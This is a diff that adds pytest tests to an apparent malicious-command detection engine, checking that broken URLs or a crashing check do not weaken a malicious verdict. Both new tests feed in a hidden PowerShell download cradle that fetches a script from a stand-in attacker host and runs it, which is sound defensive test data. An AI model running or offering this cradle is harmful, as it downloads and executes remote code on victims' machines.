@@ -331,3 +331,34 @@ def test_a_broken_rule_translation_is_reported_with_file_and_line(
     assert any("xx.yaml:2:" in s and "no such rule" in s for s in said)
     assert any("xx.yaml:4:" in s and "{host}" in s for s in said)  # where its texts start
     assert any("unknown field 'colour'" in s for s in said)
+
+
+BROKEN_ADDRESSES = ["http://0[", "http://localhost[", "https://127.0.0.1[:8080/?code=x"]
+
+
+@pytest.mark.parametrize("tail", BROKEN_ADDRESSES)
+def test_a_broken_address_beside_a_cradle_does_not_lower_the_verdict(tail: str) -> None:
+    """urllib refuses "http://0[": the ConsentFix check used to raise on it, which threw the
+    whole reading away and left a blocked cradle merely suspicious."""
+    cradle = 'powershell -w hidden -c "iwr http://evil.example/a.ps1 | iex"'
+    strict = Engine(strict=True)
+    assert strict.analyze(f"{cradle} {tail}").level == strict.analyze(cradle).level
+    assert Engine().analyze(f"{cradle} {tail}").level is Level.MALICIOUS
+
+
+def test_a_failing_check_keeps_the_other_findings_and_fails_closed(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from app.detection import signals
+
+    def broken(_a: object) -> list[str]:
+        raise RuntimeError("a programming error in one check")
+
+    monkeypatch.setitem(signals.SIGNALS, "localhost-oauth-code", broken)
+    cradle = 'powershell -w hidden -c "iwr http://evil.example/a.ps1 | iex"'
+    verdict = Engine().analyze(cradle)
+    assert verdict.level is Level.MALICIOUS  # what the other checks found is kept
+    assert not verdict.complete
+    assert Engine().analyze("http://localhost:8080/").level >= Level.SUSPICIOUS  # fail closed
+    with pytest.raises(RuntimeError):
+        Engine(strict=True).analyze(cradle)
